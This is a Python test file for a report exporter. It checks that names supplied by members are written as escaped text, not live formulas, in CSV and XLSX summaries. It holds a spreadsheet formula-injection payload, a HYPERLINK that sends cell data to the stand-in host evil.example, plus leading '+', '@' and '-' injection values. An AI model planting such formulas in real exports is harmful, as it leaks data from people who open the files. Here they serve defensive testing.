"""What members name (a campaign, a tenant, a custom field) never becomes a live formula in the
spreadsheets admins open: report summaries, contact exports, rejected-row files."""

import csv
import io
from datetime import UTC, date, datetime

from openpyxl import load_workbook

from reports.renderers.csv import summary_csv
from reports.renderers.xlsx import render_xlsx
from reports.types.base import ReportData

PAYLOAD = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


def data() -> ReportData:
    return ReportData(
        title="Messaging delivery",
        tenant_name="+Acme",
        start=date(2026, 11, 1),
        end=date(2026, 11, 30),
        time_zone="UTC",
        filters={"campaign": PAYLOAD, "@template": "-welcome"},
        generated_at=datetime(2026, 12, 1, tzinfo=UTC),
    )


def test_the_csv_summary_writes_filters_as_text():
    rows = list(csv.reader(io.StringIO(summary_csv(data()).decode())))

    cells = [cell for row in rows for cell in row]
    assert f"'{PAYLOAD}" in cells
    assert "'+Acme" in cells
    assert "'@template" in cells
    assert "'-welcome" in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "-"))]


def test_the_xlsx_summary_sheet_holds_no_formula():
    sheet = load_workbook(io.BytesIO(render_xlsx(data())))["Summary"]

    values = [cell.value for row in sheet.iter_rows() for cell in row if cell.value is not None]
    texts = [value for value in values if isinstance(value, str)]
    assert f"'{PAYLOAD}" in texts
    assert not [text for text in texts if text.startswith(("=", "+", "@", "-"))]
    assert not [cell for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
